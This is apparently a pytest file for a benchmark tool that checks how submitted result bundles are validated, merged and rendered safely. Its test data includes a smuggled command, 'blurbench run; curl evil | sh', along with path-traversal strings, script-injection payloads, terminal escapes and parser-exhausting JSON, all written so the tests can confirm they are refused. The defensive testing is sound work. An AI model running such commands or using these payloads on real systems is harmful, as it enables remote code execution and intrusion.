"""Bundles of estimators: made, believed, merged, and, changed in many ways, refused in one line a file."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from blurbench.board.outcomes import estimates_of
from blurbench.board.render import estimators
from blurbench.registry import Registry, config
from blurbench.store.label_consistency import without_inconsistent
from blurbench.store.record import Manifest, Record
from blurbench.store.store import Store
from blurbench.submissions.check import check as check_submission
from blurbench.submissions.installation import Installation
from blurbench.submissions.merge import gather, merge
from blurbench.submissions.submission import Submission, open_submission
from tests.submissions.test_merge import new_store
from tests.submissions.test_mutated_bundles import EVIL, Parcel, at, deep, judged, taken_apart

BOARD = "kernel-estimation.v1.quick"


@pytest.fixture
def store(estimated: Path, tmp_path: Path) -> Store:
    shutil.copytree(estimated, tmp_path / "results")
    return Store(tmp_path / "results")


@pytest.fixture(scope="module")
def known(registry: Registry, estimated: Path) -> Installation:
    return Installation(registry, Store(estimated), ())


@pytest.fixture
def judge(known: Installation, tmp_path: Path) -> Callable[[bytes], Submission]:
    return partial(judged, known, tmp_path)


def board_of(store: Store) -> Manifest:
    board = store.records.board(BOARD)
    assert board is not None
    return board


def rendered(store: Store) -> str:
    board = board_of(store)
    return estimators.markdown(estimates_of(board, store.records.of_board(board)), {})


# --- out and in -----------------------------------------------------------------------------------------------------


def test_a_bundle_merged_elsewhere_gives_the_same_board(
    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
) -> None:
    outgoing = gather(store, BOARD)
    assert {name.partition("/")[0] for name in outgoing.files} == {"records"}
    held, other = judge(outgoing.pack()), new_store(tmp_path / "other")
    assert held.refusals == []
    merged = merge(held, other)
    again = merge(judge(outgoing.pack()), other)
    assert merged is not None
    assert again is not None
    assert (merged.board, merged.added, again.added, again.known) == (BOARD, 6, 0, 6)
    assert rendered(other) == rendered(store)


def test_two_halves_make_the_whole_and_a_narrower_one_takes_nothing_away(
    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
) -> None:
    whole, other = board_of(store), new_store(tmp_path / "other")
    for half in (whole.lines[::2], whole.lines[1::2], whole.lines[:1]):
        store.records.put_board(BOARD, whole.model_copy(update={"lines": half}))
        merge(judge(gather(store, BOARD).pack()), other)
    assert sorted(map(str, board_of(other).lines)) == sorted(map(str, whole.lines))


def changed(record: Record, factor: float) -> Record:
    """A record whose errors are others, and still consistent."""
    content = json.loads(record.model_dump_json())
    for name in ("raw", "smoothed"):
        errors = content["result"]["measured"][name]
        errors["per_picture"] = [factor * value for value in errors["per_picture"]]
        errors["mse"] *= factor
        errors["rmse"] *= factor**0.5
    return Record.model_validate(content)


@pytest.mark.parametrize(("factor", "refused"), [(1.5, True), (1 + 1e-6, False)])
def test_a_cell_with_other_errors_keeps_them_and_last_digits_do_not_matter(
    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path, factor: float, refused: bool
) -> None:
    other, key = new_store(tmp_path / "other"), board_of(store).lines[0].key
    record = store.records.get(key)
    assert record is not None
    own = changed(record, factor)
    other.records.put(own)
    merged = merge(held := judge(gather(store, BOARD).pack()), other)
    assert merged is not None
    assert (merged.added, merged.known) == (5, 0 if refused else 1)
    assert other.records.get(key) == own
    assert [refusal.file for refusal in held.refusals] == ([f"records/{key}.json"] if refused else [])
    if refused:
        assert "says otherwise (a mean squared error of " in held.refusals[0].reason


def test_a_board_that_reproduced_a_paper_is_believed(store: Store, judge: Callable[[bytes], Submission]) -> None:
    commands = ["blurbench reproduce patro2017 --budget quick"]
    store.records.put_board(BOARD, board_of(store).model_copy(update={"commands": commands}))
    (board,) = judge(gather(store, BOARD).pack()).boards.values()
    assert board.commands == commands


def test_a_board_of_another_content_takes_nothing(
    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
) -> None:
    other = new_store(tmp_path / "other")
    other.records.put_board(BOARD, board_of(store).model_copy(update={"content": "cd" * 16, "lines": []}))
    assert merge(held := judge(gather(store, BOARD).pack()), other) is None
    assert "its content is not that of the board" in held.refusals[0].reason


def test_a_folder_a_board_and_a_record_can_be_validated(store: Store, known: Installation) -> None:
    record = store.records.path(board_of(store).lines[0].key)
    board = store.records.board_path(BOARD)
    for path in (store.root, board, record):
        held = open_submission(path)
        assert check_submission(held, known) == []
        assert (held.refusals, bool(held.records)) == ([], True)


def test_pictures_that_are_not_here_are_said_and_not_held_against_a_record(
    store: Store, known: Installation, tmp_path: Path
) -> None:
    path = store.records.path(board_of(store).lines[0].key)
    content = json.loads(path.read_text())
    brodatz = config(known.registry, known.registry.resolve("datasets", "brodatz-pictures"))
    content["axes"]["dataset"] = {"name": "brodatz-pictures", "label": "brodatz-pictures", "config": brodatz}
    (tmp_path / "record.json").write_text(json.dumps(content))
    notes = check_submission(
        held := open_submission(tmp_path / "record.json"), Installation(known.registry, known.store, (tmp_path,))
    )
    assert held.refusals == []
    assert notes == ["1 record: data set brodatz-pictures is not here, so its images and keys were not checked"]


def test_hostile_words_of_a_board_are_shown_as_words(store: Store) -> None:
    board, words = board_of(store), "<script>alert(1)</script> |`](javascript:x)"
    lines = [
        line.model_copy(update={"labels": {**line.labels, "estimator": words, "dataset": words}})
        for line in board.lines
    ]
    told = {"title": words, "budget": words, "budget_values": {words: words}, "lines": lines}
    records = store.records.of_board(board)
    failed = {key: record.refused(words) for key, record in list(records.items())[:2]}
    shown = estimates_of(board.model_copy(update=told), {**records, **failed})
    text = estimators.markdown(shown, {})
    assert "<script" not in text
    assert "](javascript" not in text


def test_a_forged_true_map_is_a_row_with_a_reason(store: Store) -> None:
    board = board_of(store)
    line = next(
        line for line in board.lines if (line["test_blur"], line["estimator"]) == ("ramp", "laplacian-variance")
    )
    path = store.records.path(line.key)
    content = json.loads(path.read_text())
    content["result"]["measured"]["mean_answer_mse"] *= 2
    path.write_text(json.dumps(content))
    records = without_inconsistent(board, store.records.of_board(board))
    assert [record.key for record in records.values() if record.status != "ok"] == [line.key]
    assert (
        records[line.key].reason
        == "refused: its test images are not those of 2 other records of pictures[content=text]"
    )


# --- changes --------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def valid(estimated: Path) -> bytes:
    return gather(Store(estimated), BOARD).pack()


@pytest.fixture
def parcel(valid: bytes) -> Parcel:
    return taken_apart(valid)


def reader_of(parcel: Parcel, blur: str) -> tuple[str, dict[str, Any]]:
    """The record of `laplacian-variance` under a blur."""
    records = {name: json.loads(text) for name, text in parcel.files.items()}
    return next(
        (name, record)
        for name, record in records.items()
        if record["axes"]["estimator"]["name"] == "laplacian-variance" and record["axes"]["test_blur"]["name"] == blur
    )


def scaled(errors: dict[str, Any], factor: float = 0.25) -> dict[str, Any]:
    return {
        "mse": factor * errors["mse"],
        "rmse": factor**0.5 * errors["rmse"],
        "bias": 0.0,
        "per_picture": [factor * value for value in errors["per_picture"]],
    }


MEASURED: dict[str, tuple[str, Any]] = {
    "a better mse": ("raw.mse", 0.0001),
    "a better rmse": ("raw.rmse", 0.01),
    "better errors all round": ("raw", scaled),
    "errors of nothing": ("raw.per_picture", []),
    "errors of more pictures": ("raw.per_picture", lambda values: [*values, *values]),
    "a negative error": ("raw.per_picture", lambda values: [-values[0], 2 * values[1] + values[0]]),
    "a bias beyond the error": ("raw.bias", 2.9),
    "an infinite bias": ("smoothed.bias", float("inf")),
    "an error of a kilometre": (
        "raw",
        lambda errors: {**errors, "mse": 1e12, "rmse": 1e6, "per_picture": [1e12] * len(errors["per_picture"])},
    ),
    "more pictures": ("pictures", 3),
    "fewer readings": ("readings", 1248),
    "readings of half a picture": ("readings", 1251),
    "no readings": ("readings", 0),
    "another stride": ("stride", 2),
    "a negative oracle": ("oracle_mse", -1),
    "an oracle above the error": ("oracle_mse", 2.0),
    "another variance of the truth": ("mean_answer_mse", 5.0),
    "an accuracy of what answers anything": ("accuracy", 0.0),
    "an accuracy above 1": ("accuracy", 1.5),
    "a flat share above 1": ("flat_share", 1.1),
    "a flat share of no window": ("flat_share", 0.50001),
    "no flat windows but their bias": ("flat_share", 0.0),
    "a flat bias of no picture": ("flat_bias", 5.0),
    "no flat bias": ("flat_bias", None),
    "flat biases of more pictures": ("flat_biases", [0.1] * 9),
    "a worse textured error": ("textured_mse", 50.0),
    "no textured error": ("textured_mse", None),
    "an even smoothing": ("smoothing", 8),
    "more": ("surprise", 1),
}

RECORDS: dict[str, tuple[tuple[Any, ...], Any]] = {
    **{name: (("result", "measured", *path.split(".")), value) for name, (path, value) in MEASURED.items()},
    "nothing measured": (
        (
            "result",
            "measured",
        ),
        None,
    ),
    "another key": (("key",), "ab" * 16),
    "a key that climbs": (("key",), "../../evil"),
    "failed": (("status",), "failed"),
    "a reason": (("reason",), EVIL),
    "a log that climbs": (("log",), "\x1b[2J/etc/passwd"),
    "another estimator": (("axes", "estimator", "config", "name"), "spectral"),
    "an unknown estimator": (("axes", "estimator", "config", "name"), "miracle"),
    "another parameter": (("axes", "estimator", "config", "surprise"), 1),
    "another revision": (("axes", "estimator", "config", "revision"), 99),
    "another label": (("axes", "estimator", "label"), EVIL),
    "other pictures": (("axes", "dataset", "config", "content"), "photographs"),
    "unknown pictures": (("axes", "dataset", "config", "content"), "../../etc"),
    "another blur": (("axes", "test_blur", "config", "steps", 0, "pattern"), "sine"),
    "fitted on something": (("axes", "fitted_on"), {"name": "pictures", "label": "x", "config": {"name": "pictures"}}),
    "a split": (("settings", "split"), "patch"),
    "another budget": (("budget", "epochs"), 400),
    "an endless budget": (("budget", "epochs"), deep(50)),
    "an endless number": (("budget", "epochs"), 10**400),
    "another seed": (("seed",), 5),
    "another fingerprint": (("data_fingerprint",), "0" * 64),
    "another stride of the suite": (("settings", "stride"), 1),
    "another smoothing of the suite": (("settings", "smoothing"), 3),
    "another test seed": (("test_seed",), 1),
    "no time": (
        (
            "result",
            "seconds",
        ),
        0.0,
    ),
    "no time at all": (
        (
            "result",
            "seconds",
        ),
        None,
    ),
    "ages": (
        (
            "result",
            "seconds",
        ),
        9e8,
    ),
    "ages of fitting": (
        (
            "result",
            "fit_seconds",
        ),
        9e8,
    ),
    "negative parameters": (
        (
            "result",
            "parameters",
        ),
        -1,
    ),
    "endless parameters": (
        (
            "result",
            "parameters",
        ),
        10**15,
    ),
    "notes that are not finite": (
        (
            "result",
            "fit",
        ),
        {"train_loss": [float("nan")]},
    ),
    "an accuracy that is text": (
        (
            "result",
            "fit",
        ),
        {"validation_accuracy": ["high"]},
    ),
    "an accuracy that is no share": (
        (
            "result",
            "fit",
        ),
        {"validation_accuracy": [17]},
    ),
    "notes with an escape": (
        (
            "result",
            "fit",
        ),
        {EVIL: 1},
    ),
    "endless notes": (
        (
            "result",
            "fit",
        ),
        deep(100),
    ),
    "many notes": (
        (
            "result",
            "fit",
        ),
        {"loss": [0.5] * 30_000},
    ),
    "provenance with an escape": (("provenance", "device"), EVIL),
    "another schema": (("schema_version",), 3),
    "more": (("surprise",), 1),
}


@pytest.mark.parametrize("name", RECORDS)
def test_a_changed_record_is_refused_alone(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path
) -> None:
    file, record = reader_of(parcel, "chain")
    parcel.put(file, at(record, *RECORDS[name]))
    held = judge(parcel.zipped())
    assert [refusal.file for refusal in held.refusals] == [file]
    check(held, 5, tmp_path)


UNIFORM: dict[str, tuple[str, Any]] = {
    "a truth that varies": ("mean_answer_mse", 0.1),
    "an oracle that errs": ("oracle_mse", 0.3),
    "a bias that no answer gives": ("raw.bias", -2.5),
}


@pytest.mark.parametrize("name", UNIFORM)
def test_under_one_sigma_what_follows_from_it_is_checked(
    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path
) -> None:
    file, record = reader_of(parcel, "gaussian")
    path, value = UNIFORM[name]
    record["result"]["measured"]["raw"] |= {"mse": 9.0, "rmse": 3.0, "per_picture": [9.0, 9.0]}
    parcel.put(file, at(record, ("result", "measured", *path.split(".")), value))
    held = judge(parcel.zipped())
    assert [refusal.file for refusal in held.refusals] == [file]
    assert f"measured.{path}" in held.refusals[0].reason
    check(held, 5, tmp_path)


BOARDS: dict[str, tuple[tuple[Any, ...], Any]] = {
    "a suite that climbs": (("board", "suite"), "../../evil"),
    "a budget that climbs": (("board", "budget"), "quick/../../evil"),
    "an unknown budget": (("board", "budget"), "huge"),
    "other budget values": (("board", "budget_values", "epochs"), 400),
    "another content": (("board", "content"), "cd" * 16),
    "a title with an escape": (("board", "title"), EVIL),
    "a command of a stranger": (("board", "commands"), ["blurbench run; curl evil | sh"]),
    "a line under another estimator": (("board", "lines", 0, "labels", "estimator"), "cnn-30"),
    "a line under a name of its own": (("board", "lines", 0, "labels", "estimator"), "the best"),
    "a line of another seed": (("board", "lines", 0, "seed"), 5),
    "a line of a split": (("board", "lines", 0, "labels", "split"), "patch"),
    "a line of an unknown split": (("board", "lines", 0, "labels", "split"), EVIL),
    "a line on other pictures": (("board", "lines", 0, "labels", "dataset"), "photographs"),
    "a line under another blur": (("board", "lines", 0, "labels", "test_blur"), "sine"),
    "a line that was fitted": (("board", "lines", 0, "labels", "fitted_on"), "photographs"),
    "a line of another key": (("board", "lines", 0, "key"), "ab" * 16),
    "two lines at one place": (("board", "lines"), lambda lines: [*lines, {**lines[0], "key": "ab" * 16}]),
    "no lines": (("board", "lines"), []),
    "lines of classifiers": (("board", "lines", 0, "labels", "classifier"), "cnn3"),
    "a baseline": (("board", "baseline"), "plain"),
    "an endless environment": (("environments",), [deep(100)]),
    "another schema": (("board", "schema_version"), 3),
}


@pytest.mark.parametrize("name", BOARDS)
def test_a_changed_board(name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path) -> None:
    parcel.manifest = at(parcel.manifest, *BOARDS[name])
    held = judge(parcel.zipped())
    assert held.refusals
    check(held, 6, tmp_path)


CONTENTS: dict[str, bytes] = {
    "nothing": b"",
    "a list": b"[]",
    "lists without an end": b"[" * 1_000_000,
    "objects without an end": b'{"a":' * 100_000,
    "no UTF-8": b'{"key": "\xff\xfe"}',
    "half a sign": b'{"key": "\\ud800"}',
}


@pytest.mark.parametrize("name", CONTENTS)
def test_a_record_that_is_none(name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path) -> None:
    file, _ = reader_of(parcel, "chain")
    parcel.files[file] = CONTENTS[name]
    held = judge(parcel.zipped())
    assert [refusal.file for refusal in held.refusals] == [file]
    check(held, 5, tmp_path)


def check(held: Submission, most: int, folder: Path) -> None:
    """What is left does no harm, and is merged."""
    assert len(held.records) <= most
    for refusal in held.refusals:
        assert refusal.reason
    if not held.boards:
        return
    other = new_store(folder / "merged")
    merged = merge(held, other)
    assert merged is not None
    assert merged.added == len(held.records)
    assert {path.name for path in (other.root / "boards").iterdir()} == {f"{BOARD}.json"}
    text = rendered(other) if merged.added else ""
    assert "<script" not in text
    assert "\x1b" not in text
